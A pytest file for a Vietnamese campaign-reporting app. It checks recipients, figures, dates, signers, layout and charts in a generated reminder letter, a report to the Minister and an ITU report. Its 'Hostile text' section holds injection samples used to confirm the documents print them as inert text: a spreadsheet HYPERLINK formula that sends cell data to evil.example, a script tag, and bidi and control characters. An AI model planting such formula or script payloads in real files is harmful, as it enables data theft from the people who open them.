"""The three documents read back with python-docx: recipients, every figure, the fixed parts, what the coordinator
typed, the layout a registry clerk checks (page numbers, repeated headers, rows kept whole); hostile text as plain text.

Charts need Chromium (kaleido); the documents with charts are built once per module through one ChartRenderer.
Then each document through LibreOffice headless to PDF and poppler to PNG (saved in tests/artifacts/documents/).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from campaign import metrics
from campaign.document_inputs import DocumentInputs, defaults
from campaign.errors import CampaignError
from campaign.report import evaluate, prepare
from data_sources.demo import DemoSource
from documents.charts import ChartRenderer
from documents.final_report import build_final_report, build_itu_report
from documents.letter import build_letter, letters_zip, recipients
from documents.text import plain
from presentation import views
from presentation.figures import print_figures
from presentation.formats import fmt_date, fmt_time
from tests.documents_helpers import (
    ARTIFACTS,
    body_texts,
    have_renderer,
    images,
    ink,
    keeps_with_next,
    number,
    open_docx,
    page_count,
    page_number_field,
    page_pngs,
    page_sizes,
    page_text,
    pdf_images,
    row_flags,
    share,
    table_with_header,
    to_pdf,
)
from tests.sheets import SMALL_ROSTER, sheet, ticked

AFTER_DEADLINE = "2021-06-04T09:00"
BEFORE_DEADLINE = "2021-05-25T12:00"
NEW_DEADLINE = dt.date(2021, 6, 10)


def filled(config) -> DocumentInputs:
    """What a coordinator types on the Export page before taking the documents to be signed."""
    return DocumentInputs(
        original_number="1234/BTTTT-HTQT",
        original_date=dt.date(2021, 5, 6),
        letter_signer_title=("KT. BỘ TRƯỞNG", "THỨ TRƯỞNG"),
        letter_signer_name="Phan Tâm",
        report_signer_title=("VỤ TRƯỞNG",),
        report_signer_name="Nguyễn Văn Tuấn",
        itu_signer_title=config.documents.itu.signer_title,
        proposals="Đề nghị Lãnh đạo Bộ giao Vụ Hợp tác quốc tế gửi báo cáo cho ITU trước ngày 15/6.\nĐề nghị biểu dương các đơn vị.",
    )


@pytest.fixture(scope="module")
def prepared(config):
    return prepare(DemoSource(config).read(), config)


@pytest.fixture(scope="module")
def report(prepared):
    return evaluate(prepared, AFTER_DEADLINE)


@pytest.fixture(scope="module")
def renderer():
    with ChartRenderer() as r:
        yield r


@pytest.fixture(scope="module")
def reports(report, renderer, config):
    """The report to the Minister and the ITU report for the demo as a coordinator fills them in, one Chromium for both."""
    out = {
        "final": build_final_report(report, report.as_of, renderer=renderer, inputs=filled(config)),
        "itu": build_itu_report(report, report.as_of, renderer=renderer, inputs=filled(config)),
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for name, data in out.items():
        (ARTIFACTS / f"{name}.docx").write_bytes(data)
    return out


def missing_names(report, groups=None, statuses=("missing",)) -> set[str]:
    agencies = report.agencies if not groups else report.agencies[report.agencies["group"].isin(groups)]
    return set(agencies.loc[agencies["status"].isin(statuses), "name"])


def kinh_gui(texts: list[str]) -> list[str]:
    """The recipients named after 'Kính gửi:' (one line, or '- X;' lines)."""
    at = next(i for i, t in enumerate(texts) if t.startswith("Kính gửi:"))
    first = texts[at].removeprefix("Kính gửi:").strip()
    if first:
        return [first.rstrip(".;")]
    names = []
    for line in texts[at + 1 :]:
        if not line.startswith("- "):
            break
        names.append(line[2:].rstrip(".;"))
    return names


def annex_names(doc) -> list[str]:
    table = doc.tables[-1]
    assert [c.text for c in table.rows[0].cells] == ["STT", "Tên cơ quan, đơn vị", "Tình trạng"]
    return [row.cells[1].text.replace("\u200b", "") for row in table.rows[1:] if row.cells[0].text.strip().isdigit()]


def noi_nhan(texts: list[str], label: str) -> list[str]:
    at = texts.index(label)
    out = []
    for line in texts[at + 1 :]:
        if not line.startswith("- "):
            break
        out.append(line[2:])
    return out


# The letter ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("as_of", [AFTER_DEADLINE, BEFORE_DEADLINE])
def test_the_annex_lists_exactly_the_agencies_missing_at_the_chosen_moment(prepared, config, as_of):
    report = evaluate(prepared, as_of)
    doc = open_docx(build_letter(report, report.as_of, NEW_DEADLINE))
    expected = missing_names(report)
    assert len(expected) > config.documents.letter.annex_after
    names = annex_names(doc)
    assert len(names) == len(set(names)) and set(names) == expected
    texts = body_texts(doc)
    assert kinh_gui(texts) == [config.documents.letter.annex_recipient]
    day = report.as_of
    assert f"Tính đến ngày {day.day}/{day.month}/{day.year}, Bộ Thông tin và Truyền thông chưa nhận được báo cáo" in "\n".join(
        texts
    )


def test_earlier_moment_more_agencies_missing(prepared):
    early = missing_names(evaluate(prepared, BEFORE_DEADLINE))
    late = missing_names(evaluate(prepared, AFTER_DEADLINE))
    assert late < early  # the test above would pass for one moment only if recipients ignored the moment


def test_a_short_list_goes_in_kinh_gui_and_the_late_ones_on_request(report, config):
    groups = ["enterprise"]
    only_missing = open_docx(build_letter(report, report.as_of, NEW_DEADLINE, groups=groups))
    assert set(kinh_gui(body_texts(only_missing))) == missing_names(report, groups)
    with_late = open_docx(build_letter(report, report.as_of, NEW_DEADLINE, groups=["province"], include_late=True))
    expected = missing_names(report, ["province"], ("missing", "late"))
    assert set(annex_names(with_late)) == expected
    assert missing_names(report, ["province"], ("late",)), "the demo has a late Department: include_late must add it"
    texts = body_texts(with_late)
    assert config.documents.letter.late_request in texts and any("sau thời hạn nêu trên của Quý cơ quan" in t for t in texts)
    assert config.documents.letter.annex_title_with_late in texts


def test_the_late_agencies_sentence_only_when_late_agencies_are_addressed(report, config):
    text = config.documents.letter
    asked_late = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, include_late=True)))
    late_among_them = (recipients(report, None, True)["status"] == "late").any()
    assert late_among_them and text.late_request in asked_late
    for options in ({}, {"include_late": True, "groups": ["ministry"]}):  # the ministries: none of them late
        assert not (recipients(report, options.get("groups"), options.get("include_late", False))["status"] == "late").any()
        texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, **options)))
        assert text.late_request not in texts and not any("sau thời hạn" in t for t in texts), options
        assert text.annex_title in texts or len(recipients(report, options.get("groups"))) <= text.annex_after


def test_the_date_line_is_left_for_the_registry_unless_a_date_is_given(report, config):
    undated = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE)))
    assert f"Hà Nội, {config.documents.undated}" in undated
    assert not any(re.match(r"Hà Nội, ngày \d", t) for t in undated)
    dated = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, letter_day=dt.date(2021, 6, 5))))
    assert "Hà Nội, ngày 05 tháng 6 năm 2021" in dated


def test_original_letter_new_deadline_contact_and_signature(report, config):
    docs = config.documents
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, inputs=filled(config))))
    joined = "\n".join(texts)
    assert docs.letter.number in texts and docs.issuer in texts and docs.national_title in texts and docs.motto in texts
    assert docs.letter.subject.format(campaign_vi=config.campaign.name_vi) in texts
    assert "ngày 6/5/2021, Bộ Thông tin và Truyền thông đã có Công văn số 1234/BTTTT-HTQT đề nghị" in joined
    assert "trước ngày 4/6/2021" in joined and "trước ngày 10/6/2021" in joined
    who = config.campaign
    assert who.coordinator_name in joined and who.coordinator_phone in joined and who.contact_email in joined
    assert texts.index("KT. BỘ TRƯỞNG") < texts.index("THỨ TRƯỞNG") < texts.index("Phan Tâm")
    assert docs.letter.closing in texts


def test_what_is_not_known_yet_is_dots_and_never_a_guess(report, config):
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, inputs=DocumentInputs())))
    assert "ngày …/…/…, Bộ Thông tin và Truyền thông đã có Công văn số … đề nghị" in "\n".join(texts)
    assert "…" in texts  # the signer's name
    assert DocumentInputs().missing("letter") == ("original_number", "original_date", "letter_signer_title", "letter_signer_name")
    assert defaults(config).missing("letter") == ("original_number", "original_date")  # campaign.toml knows the signer


def test_one_date_style_in_the_letter(report, config):
    """d/m/yyyy in the sentences (as the original letter writes 4/6/2021), words in the date line; no clock time."""
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, include_late=True, inputs=filled(config))))
    body = [t for t in texts if len(t) > 60]  # the sentences
    dates = re.findall(r"\b\d{1,2}/\d{1,2}/\d{4}\b", "\n".join(body))
    assert dates and all(not re.match(r"0\d/|\d+/0\d/", d) for d in dates), dates
    assert not re.search(r"\b\d{1,2}:\d{2}\b", "\n".join(texts)), "a clock time in the letter"


def test_the_signer_is_never_also_among_the_recipients(report, config):
    text = config.documents.letter
    assert any("Phan Tâm" in c for c in text.cc) and text.signer_name == "Phan Tâm"  # the config lists both
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE)))
    cc = noi_nhan(texts, text.cc_label)
    assert cc and not any("Phan Tâm" in c for c in cc) and "Phan Tâm" in texts
    other = DocumentInputs(letter_signer_title=("KT. BỘ TRƯỞNG", "THỨ TRƯỞNG"), letter_signer_name="Nguyễn Thành Hưng")
    texts = body_texts(open_docx(build_letter(report, report.as_of, NEW_DEADLINE, inputs=other)))
    cc = noi_nhan(texts, text.cc_label)
    assert "Thứ trưởng Phan Tâm;" in cc and "Nguyễn Thành Hưng" in texts and not any("Nguyễn Thành Hưng" in c for c in cc)


def test_page_numbers_from_page_two_and_the_annex_table_kept_as_a_clerk_checks(report, config):
    doc = open_docx(build_letter(report, report.as_of, NEW_DEADLINE))
    header = page_number_field(doc)
    assert header["first_page_apart"] and header["first_page_text"] == "" and header["field"] == "PAGE"
    assert header["centred"] == [layout_center()]
    table = doc.tables[-1]
    flags = row_flags(table)
    assert "tblHeader" in flags[0] and all("tblHeader" not in f for f in flags[1:])
    assert all("cantSplit" in f for f in flags), "a row split across two pages"
    headings = [row for row in table.rows[1:] if not row.cells[0].text.strip().isdigit()]
    groups = recipients(report)["group"].nunique()
    assert len(headings) == groups
    assert all(keeps_with_next(p) for row in headings for p in row.cells[0].paragraphs), "a group heading left alone"


def layout_center():
    from documents.layout import CENTER

    return CENTER


def test_january_and_february_take_a_leading_zero_in_the_date_line(report):
    texts = body_texts(open_docx(build_letter(report, report.as_of, dt.date(2022, 2, 10), letter_day=dt.date(2022, 2, 3))))
    assert "Hà Nội, ngày 03 tháng 02 năm 2022" in texts


def test_one_letter_per_agency_as_a_zip_named_by_code(report):
    to = recipients(report, ["ministry"])
    archive = zipfile.ZipFile(io.BytesIO(letters_zip(report, report.as_of, NEW_DEADLINE, groups=["ministry"])))
    assert sorted(archive.namelist()) == sorted(f"{code}.docx" for code in to["code"])
    for code, name in zip(to["code"], to["name"]):
        assert kinh_gui(body_texts(open_docx(archive.read(f"{code}.docx")))) == [name]


def test_a_new_deadline_before_the_letter_or_nobody_to_write_to_is_refused(report, prepared):
    with pytest.raises(CampaignError, match="after the day of the figures"):
        build_letter(report, report.as_of, dt.date(2021, 6, 1))
    with pytest.raises(CampaignError, match="after the letter's date"):
        build_letter(report, report.as_of, dt.date(2021, 6, 6), letter_day=dt.date(2021, 6, 7))
    everyone = prepared.roster.assign(status="on_time").iloc[0:0][["code", "name", "group", "status"]]
    with pytest.raises(CampaignError, match="nobody"):
        build_letter(report, report.as_of, NEW_DEADLINE, to=everyone)


# The report to the Minister --------------------------------------------------------------------------------------


def test_final_report_every_figure_equals_the_metrics(report, reports, config):
    text = config.documents.report
    doc = open_docx(reports["final"])
    texts = body_texts(doc)
    summary = metrics.summary(report)
    by_group = metrics.by_group(report).set_index("group")
    rows = table_with_header(doc, text.group_columns)
    labels = {config.group_label(g, "vi"): g for g in by_group.index}
    assert len(rows) == len(by_group) + 1
    for label, *cells in rows:
        want = summary if label == text.total_label else by_group.loc[labels[label]]
        keys = ("agencies_expected", "agencies_reported", "agencies_on_time", "agencies_late", "agencies_missing")
        assert [number(c) for c in cells[:5]] == [int(want[k]) for k in keys], label
        assert share(cells[5]) == pytest.approx(want["reporting_rate"], abs=0.0005)
    activities = metrics.activities(report).set_index("label_vi")
    act_rows = table_with_header(doc, text.activity_columns)
    assert [r[0] for r in act_rows] == list(activities.index)
    for label, agencies, quantity in act_rows:
        assert number(agencies) == activities.at[label, "agencies"]
        q = activities.at[label, "quantity"]
        assert (quantity == "—") if pd.isna(q) else number(quantity) == q
    assert views.headline(summary, report.as_of, "vi") in texts
    participants = next(t for t in texts if "tổng số người tham dự" in t)
    assert number(re.search(r"là ([\d.]+) người", participants).group(1)) == summary["participants"] > 0
    itu = activities.set_index("activity").loc["itu_session"]
    assert (
        f"{itu['agencies']} đơn vị tham gia các phiên họp trực tuyến của ITU, tổng cộng {itu['quantity']} lượt tham dự"
        in participants
    )
    assert f"Số liệu tính đến {fmt_time(report.as_of)} ngày {fmt_date(report.as_of)}" in texts
    assert "Năm 2021, Liên minh Viễn thông quốc tế (ITU) kỷ niệm" in "\n".join(texts)  # {year} from the config


def test_final_report_lists_the_missing_agencies_and_prints_what_the_coordinator_typed(report, reports, config):
    text = config.documents.report
    texts = body_texts(open_docx(reports["final"]))
    start = texts.index(text.heading_missing)
    end = texts.index(text.heading_proposals)
    listed = [re.sub(r"^\d+\. ", "", t) for t in texts[start:end] if re.match(r"^\d+\. ", t)]
    assert sorted(listed) == sorted(missing_names(report))
    assert texts[end + 1 : end + 3] == filled(config).proposals.splitlines()
    assert text.proposals_placeholder not in texts
    assert texts.index("VỤ TRƯỞNG") < texts.index("Nguyễn Văn Tuấn") and "…" not in texts
    assert "Ngày 6/5/2021, Bộ Thông tin và Truyền thông đã có Công văn số 1234/BTTTT-HTQT" in "\n".join(texts)
    assert text.cc_label in texts
    assert any(t.startswith("DỮ LIỆU MẪU") for t in texts), "demo data must say so in the document"


def test_final_report_without_what_only_a_person_knows_keeps_a_visible_place_for_it(report, renderer, config):
    doc = open_docx(build_final_report(report, report.as_of, groups=["enterprise"], renderer=renderer))
    texts = body_texts(doc)
    text = config.documents.report
    assert texts[texts.index(text.heading_proposals) + 1] == text.proposals_placeholder
    assert "…" in texts  # the signer's name, to be written
    assert f"{config.documents.place}, {config.documents.undated}" in texts  # dated by the registry
    assert set(defaults(config).missing("final")) == {"original_number", "original_date", "report_signer_name", "proposals"}


def test_both_reports_keep_every_table_row_whole_and_repeat_the_headers(reports):
    for name in ("final", "itu"):
        doc = open_docx(reports[name])
        tables = [t for t in doc.tables if len(t.columns) >= 3]  # the data tables (not the header or signature grid)
        assert len(tables) == 2, name
        for table in tables:
            flags = row_flags(table)
            assert "tblHeader" in flags[0] and all("cantSplit" in f for f in flags), name
        header = page_number_field(doc)
        assert header["first_page_apart"] and header["field"] == "PAGE", name


def test_final_report_has_four_charts_with_ink(reports):
    pictures = images(open_docx(reports["final"]))
    assert len(pictures) == 4
    assert all(ink(p) > 0.02 for p in pictures), [round(ink(p), 4) for p in pictures]


def test_the_group_filter_is_respected(prepared, renderer, config):
    report = evaluate(prepared, AFTER_DEADLINE)
    doc = open_docx(build_final_report(report, report.as_of, groups=["ministry"], renderer=renderer))
    rows = table_with_header(doc, config.documents.report.group_columns)
    assert [r[0] for r in rows] == [config.group_label("ministry", "vi"), "Tổng cộng"]
    assert number(rows[-1][1]) == metrics.summary(report, ["ministry"])["agencies_expected"]
    assert f"Phạm vi: {config.group_label('ministry', 'vi')}." in body_texts(doc)


# Charts: one Chromium, no page reload between charts, the same picture whatever was drawn before ----------------


def test_a_chart_drawn_after_others_is_the_same_picture_as_drawn_first_and_the_page_is_never_reloaded(
    report, reports, renderer, config, monkeypatch
):
    from kaleido._kaleido_tab import _KaleidoTab

    reloads = []
    original = _KaleidoTab.reload

    async def counted(tab):
        reloads.append(tab)
        await original(tab)

    monkeypatch.setattr(_KaleidoTab, "reload", counted)
    frames = views.build_frames(report, None)
    figures = print_figures(frames, config, "en")
    assert renderer.rendered >= 8 and renderer.started == 1  # the module's reports: 8 charts, one Chromium
    after_others = {key: renderer.png(fig) for key, fig in figures.items()}
    for key in ("map", "burnup"):  # each first in a Chromium of its own
        with ChartRenderer() as fresh:
            assert fresh.png(figures[key]) == after_others[key], key
    assert reloads == []


def test_the_basic_plotly_bundle_draws_every_chart_as_the_full_bundle_does(report, renderer, config, monkeypatch):
    """kaleido's page loads plotly.js' basic bundle (documents/vendor): the same version as plotly.py's own full
    bundle, and every document chart, in both languages, the same PNG bytes as the full bundle draws."""
    import plotly

    from documents import charts

    full = Path(plotly.__file__).parent / "package_data" / "plotly.min.js"
    version = re.compile(rb"plotly\.js(?: \([a-z -]+\))? (v[0-9.]+)")
    assert version.search(charts.PLOTLY_BASIC.read_bytes()[:300]).group(1) == version.search(full.read_bytes()[:300]).group(1)
    assert charts.PLOTLY_BASIC.stat().st_size < full.stat().st_size / 3
    frames = views.build_frames(report, None)
    figures = {(lang, key): fig for lang in ("vi", "en") for key, fig in print_figures(frames, config, lang).items()}
    basic = {key: renderer.png(fig) for key, fig in figures.items()}
    kaleido_class = charts._kaleido_class()

    class FullBundle(kaleido_class):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **{**kwargs, "plotlyjs": full.as_uri()})

    monkeypatch.setattr(charts, "_kaleido_class", lambda: FullBundle)
    with ChartRenderer() as with_full:
        assert {key: with_full.png(fig) for key, fig in figures.items()} == basic


def test_a_chart_the_basic_bundle_cannot_draw_is_refused_with_a_message():
    import plotly.graph_objects as go

    from documents.charts import ChartError

    renderer = ChartRenderer()  # never opened: the figure is refused before Chromium is asked
    with pytest.raises(ChartError) as caught:
        renderer.submit(go.Figure(go.Choropleth(locations=["VNM"], z=[1])))
    assert "cannot draw choropleth" in caught.value.en and "không vẽ được choropleth" in caught.value.vi


def test_a_renderer_kept_open_draws_warm_and_closes_its_chromium_when_idle(report, config):
    import time

    figure = print_figures(views.build_frames(report, None), config, "vi")["groups"]
    renderer = ChartRenderer(idle_s=1.5).open()
    try:
        first = renderer.png(figure)
        assert renderer.png(figure) == first and renderer.started == 1
        time.sleep(3)  # idle: Chromium closed
        assert renderer.png(figure) == first and renderer.started == 2
    finally:
        renderer.close()
    assert renderer.rendered == 3


def test_a_renderer_whose_chromium_died_draws_the_next_chart_on_a_new_one(report, config):
    import os
    import signal

    figure = print_figures(views.build_frames(report, None), config, "vi")["activities"]
    with ChartRenderer() as renderer:
        first = renderer.png(figure)
        os.kill(renderer.browser_pid, signal.SIGKILL)  # as the out-of-memory killer would, in a long-lived app
        assert renderer.png(figure) == first
        assert renderer.started == 2


def test_a_document_figure_carries_its_own_template_and_size_whatever_the_process_default(report, config, monkeypatch):
    """Importing Streamlit sets plotly's default template to its own (no automargin: labels cut off)."""
    import json

    import plotly.io as pio

    frames = views.build_frames(report, None)
    before = {k: json.loads(f.to_json()) for k, f in print_figures(frames, config, "vi").items()}
    monkeypatch.setattr(pio.templates, "default", "none")
    after = print_figures(frames, config, "vi")
    assert {k: json.loads(f.to_json()) for k, f in after.items()} == before
    assert all(f.layout.width and f.layout.height and f.layout.template.layout.yaxis.automargin for f in after.values())


# The report for ITU -------------------------------------------------------------------------------------------


def test_itu_report_figures_source_and_moment(report, reports, config):
    text = config.documents.itu
    doc = open_docx(reports["itu"])
    texts = body_texts(doc)
    summary = metrics.summary(report)
    rows = table_with_header(doc, text.group_columns)
    assert text.group_columns[1] == "Reported / expected" and text.groups_heading in texts
    assert rows[-1][1] == f"{summary['agencies_reported']} / {summary['agencies_expected']}"
    by_group = metrics.by_group(report).set_index("group")
    for label, cell, _ in rows[:-1]:
        g = by_group.loc[next(k for k in by_group.index if config.group_label(k, "en") == label)]
        assert cell == f"{int(g['agencies_reported'])} / {int(g['agencies_expected'])}"
    activities = metrics.activities(report).set_index("label_en")
    for label, agencies, quantity in table_with_header(doc, text.activity_columns):
        assert number(agencies) == activities.at[label, "agencies"]
        q = activities.at[label, "quantity"]
        assert (quantity == "—") if pd.isna(q) else number(quantity) == q
    itu = activities.set_index("activity").loc["itu_session"]
    line = next(t for t in texts if t.startswith("Participation in ITU online sessions:"))
    assert f"{itu['agencies']} agencies took part, {itu['quantity']} session attendances in total" in line
    assert not re.search(r"\d+ sessions\b", "\n".join(texts)), "a count of attendances read as distinct sessions"
    source = f"reports of {summary['agencies_reported']} agencies to the Ministry of Information and Communications"
    assert any(source in t and "09:00 on 4 June 2021" in t for t in texts)
    assert any(config.campaign.theme_en in t for t in texts)
    assert len(images(doc)) == 4


def test_itu_report_has_an_addressee_a_sender_block_and_a_signature(report, reports, config):
    text = config.documents.itu
    texts = body_texts(open_docx(reports["itu"]))
    assert texts[: len(text.sender)] == list(text.sender)
    c = config.campaign
    assert f"Contact: {c.coordinator_name}, {c.contact_email}, tel. {c.coordinator_phone}" in texts
    assert f"{text.addressee_label} {text.addressee[0]}" in texts and text.addressee[1] in texts
    at = texts.index(text.sign_for)
    assert texts[at + 4 : at + 6] == ["Nguyễn Văn Tuấn", text.signer_title]
    leader = body_texts(
        open_docx(build_itu_report(report, report.as_of, inputs=filled(config), contact=False, groups=["ministry"]))
    )
    assert not any(t.startswith("Contact:") for t in leader) and "@" not in "\n".join(leader)


def test_itu_report_tells_a_success_story_per_highlighted_agency(report, reports, config):
    texts = body_texts(open_docx(reports["itu"]))
    top = metrics.most_active(report)
    counted = metrics.counted_reports(report).set_index("agency_code")
    roster = report.prepared.roster.set_index("code")
    start = texts.index(config.documents.itu.stories_heading)
    stories = texts[start + 2 : start + 2 + len(top)]
    for code, story in zip(top["code"], stories):
        answer = counted.loc[code]
        who = plain(roster.at[code, "name_en"]) or plain(roster.at[code, "name"])
        assert story.startswith(f"{who} ("), story  # who
        assert (
            f"held {top.set_index('code').at[code, 'activities']} kinds of activity between 1 May 2021 and 31 May 2021" in story
        )
        day = answer["submitted_at"]
        assert f"reached the Ministry on {day.day} {day:%B} {day.year}" in story  # when
        if pd.notna(answer["participants"]) and answer["participants"] > 0:
            assert f"About {int(answer['participants']):,} people took part." in story  # how many people
        link = str(answer["evidence"] or "").split(";")[0]
        assert (f"Photos and documents: {link}" in story) == bool(link)  # a link


# The same picture in any process; next year from the config alone ----------------------------------------------

IMAGES_SCRIPT = """
import hashlib, sys
if sys.argv[1] == "streamlit":
    import streamlit  # makes its own template plotly's default, as in the app's process
import plotly.io as pio
from campaign.config import load_config
from campaign.report import evaluate, prepare
from data_sources.demo import DemoSource
from documents.charts import ChartRenderer
from documents.final_report import build_final_report, build_itu_report
from tests.documents_helpers import images, open_docx
config = load_config()
report = evaluate(prepare(DemoSource(config).read(), config), sys.argv[2])
with ChartRenderer() as r:
    for build in (build_final_report, build_itu_report):
        for png in images(open_docx(build(report, report.as_of, renderer=r))):
            print(build.__name__, hashlib.sha256(png).hexdigest())
print("default", pio.templates.default)
"""


def test_the_documents_pictures_are_the_same_in_a_process_that_imported_streamlit(reports, tmp_path):
    """The app's process (Streamlit imported: its template is plotly's default) and the CLI's draw the same PNGs."""
    import hashlib
    import os
    import subprocess
    import sys

    from tests.documents_helpers import ROOT

    env = {**os.environ, "CAMPAIGN_STORE_PATH": str(tmp_path / "store.sqlite")}
    seen = {}
    for mode in ("streamlit", "plain"):
        done = subprocess.run(
            [sys.executable, "-c", IMAGES_SCRIPT, mode, AFTER_DEADLINE],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=600,
        )
        assert done.returncode == 0, done.stderr
        lines = done.stdout.split("\n")
        seen[mode] = [line for line in lines if line.startswith("build_")]
        assert ("default streamlit" in lines) == (mode == "streamlit")
    assert len(seen["plain"]) == 8 and seen["streamlit"] == seen["plain"]
    here = [
        f"{name} {hashlib.sha256(p).hexdigest()}"
        for key, name in (("final", "build_final_report"), ("itu", "build_itu_report"))
        for p in images(open_docx(reports[key]))
    ]
    assert here == seen["plain"]  # and this test process's, whatever it imported before


NEXT_YEAR = {
    "theme_vi": "Công nghệ số cho người cao tuổi và già hóa khỏe mạnh",
    "theme_en": "Digital technologies for older persons and healthy ageing",
}


def next_year_config(tmp_path):
    """campaign.toml for 2022: another year, theme and deadline (the same texts of [documents]: no year is in them)."""
    from campaign.config import DEFAULT_CONFIG, load_config

    text = DEFAULT_CONFIG.read_text(encoding="utf-8")
    roster = DEFAULT_CONFIG.parent / "campaign" / "data" / "agencies_2021.csv"
    text = text.replace('roster = "campaign/data/agencies_2021.csv"', f"roster = {str(roster)!r}")
    text = re.sub(r'theme_vi = ".*"', f'theme_vi = "{NEXT_YEAR["theme_vi"]}"', text)
    text = re.sub(r'theme_en = ".*"', f'theme_en = "{NEXT_YEAR["theme_en"]}"', text)
    text = text.replace("2021", "2022").replace("deadline = 2022-06-04T00:00:00+07:00", "deadline = 2022-06-08T00:00:00+07:00")
    path = tmp_path / "campaign-2022.toml"
    path.write_text(text, encoding="utf-8")
    return load_config(path)


def test_a_2022_config_builds_the_three_documents_with_no_2021_in_them(renderer, tmp_path):
    from tests.documents_helpers import all_text

    config = next_year_config(tmp_path)
    rows = [
        {"timestamp": "17/05/2022 10:23:45", "agency_code": "P01", "agency_name": "Sở TT&TT Hà Nội", "activities": ticked("rally", "itu_session"),
         "itu_session": "2", "participants": "120", "evidence": "https://drive.google.com/open?id=hn2022"},
        {"timestamp": "09/06/2022 09:00:00", "agency_name": "Sở TTTT tỉnh Hà Tĩnh", "activities": ticked("article"), "article": "5"},
    ]  # fmt: skip
    report = evaluate(prepare(sheet(*rows), config), "2022-06-10T09:00")
    documents = {
        "letter": build_letter(report, report.as_of, dt.date(2022, 6, 20), include_late=True),
        "final": build_final_report(report, report.as_of, renderer=renderer),
        "itu": build_itu_report(report, report.as_of, renderer=renderer),
    }
    for name, data in documents.items():
        found = all_text(data)
        assert "2021" not in found, (name, found[max(found.find("2021") - 200, 0) : found.find("2021") + 50])
        assert "2022" in "\n".join(body_texts(open_docx(data))), name
    final = "\n".join(body_texts(open_docx(documents["final"])))
    assert "Năm 2022, Liên minh Viễn thông quốc tế (ITU) kỷ niệm" in final and NEXT_YEAR["theme_vi"] in final
    assert "trước ngày 8/6/2022" in final
    letter = "\n".join(body_texts(open_docx(documents["letter"])))
    assert "trước ngày 8/6/2022" in letter and "trước ngày 20/6/2022" in letter and "Tính đến ngày 10/6/2022" in letter
    itu = "\n".join(body_texts(open_docx(documents["itu"])))
    assert "World Telecommunication and Information Society Day 2022" in itu and NEXT_YEAR["theme_en"] in itu
    for lang in ("vi", "en"):  # the charts: their text is in their figures
        assert not any("2021" in f.to_json() for f in print_figures(views.build_frames(report), config, lang).values())


# Hostile text --------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'
HTML = "<script>alert('x')</script><b>đậm</b>"
BIDI = "Cuộc thi\u202e ảnh\u2066 số\u200b"
CONTROL = "Hội\x01 thảo\x0b trực\x1f tuyến"
LONG = "Chuỗi dài không dấu cách " + "x" * 5000


def hostile_raw():
    roster = pd.concat(
        [
            SMALL_ROSTER,
            pd.DataFrame(
                [
                    ["X01", f"{HTML} Ban {FORMULA}", "ministry", "", "", "", ""],
                    ["X02", f"Đơn vị{BIDI}{CONTROL}", "ministry", "", "", "", ""],
                    ["X03", "Y" * 5000, "ministry", "", "", "", ""],
                ],
                columns=SMALL_ROSTER.columns,
            ),
        ],
        ignore_index=True,
    )
    others = [FORMULA, HTML, BIDI, CONTROL, LONG]
    codes = ["P01", "P31", "P35", "P42", "G18"]
    rows = [
        {"timestamp": f"2{i}/05/2021 09:00:00", "agency_code": code, "agency_name": code, "activities": ticked("rally", other=o)}
        for i, (code, o) in enumerate(zip(codes, others))
    ]
    return sheet(*rows, roster=roster)


@pytest.fixture(scope="module")
def hostile(config, renderer):
    report = evaluate(prepare(hostile_raw(), config), AFTER_DEADLINE)
    hostile_inputs = DocumentInputs(
        original_number=FORMULA,
        letter_signer_title=(HTML,),
        letter_signer_name=BIDI,
        report_signer_name=LONG[:80],
        proposals=f"{HTML}\n{CONTROL}",
    )
    out = {
        "hostile_letter": build_letter(report, report.as_of, NEW_DEADLINE, inputs=hostile_inputs),
        "hostile_final": build_final_report(report, report.as_of, renderer=renderer, inputs=hostile_inputs),
        "hostile_itu": build_itu_report(report, report.as_of, renderer=renderer, inputs=hostile_inputs),
    }
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for name, data in out.items():
        (ARTIFACTS / f"{name}.docx").write_bytes(data)
    return report, out


def test_hostile_khac_text_and_names_come_out_as_plain_text(hostile):
    report, out = hostile
    final = "\n".join(body_texts(open_docx(out["hostile_final"])))
    for typed in (FORMULA, HTML):
        assert typed in final  # as the characters typed: nothing evaluated, nothing dropped
    for hidden in ("\u202e", "\u2066", "\x01", "\x0b", "\x1f"):
        assert hidden not in final
    assert "Cuộc thi ảnh số" in final and "Hội thảo trực tuyến" in final
    assert plain(LONG, 400).replace("\u200b", "") in final and "x" * 1000 not in final
    letter = open_docx(out["hostile_letter"])
    names = annex_names(letter)
    assert f"{HTML} Ban {FORMULA}" in names
    assert "Đơn vịCuộc thi ảnh sốHội thảo trực tuyến" in names
    assert any(n.startswith("Y" * 300) and n.endswith("…") and len(n) == 301 for n in names)
    assert set(names) == {plain(n, 300).replace("\u200b", "") for n in missing_names(report)}


# Rendering: LibreOffice headless → PDF → PNG -------------------------------------------------------------------


def test_libreoffice_and_poppler_are_installed():
    """.ci/run installs them (libreoffice-writer, fonts-liberation, poppler-utils): without them nothing below can run."""
    assert have_renderer(), "install libreoffice-writer, fonts-liberation and poppler-utils (see .ci/run)"


@pytest.fixture(scope="module")
def rendered(report, reports, hostile, config, tmp_path_factory):
    """Every document as PDF (one LibreOffice run, its own profile) and as page PNGs under tests/artifacts/documents/."""
    docs = {
        "letter": build_letter(report, report.as_of, NEW_DEADLINE, inputs=filled(config)),
        "letter_late": build_letter(report, report.as_of, NEW_DEADLINE, include_late=True, inputs=filled(config)),
        "letter_short": build_letter(report, report.as_of, NEW_DEADLINE, groups=["enterprise"], inputs=filled(config)),
        **reports,
        **hostile[1],
    }
    work = tmp_path_factory.mktemp("render")
    files = []
    for name, data in docs.items():
        path = work / f"{name}.docx"
        path.write_bytes(data)
        files.append(path)
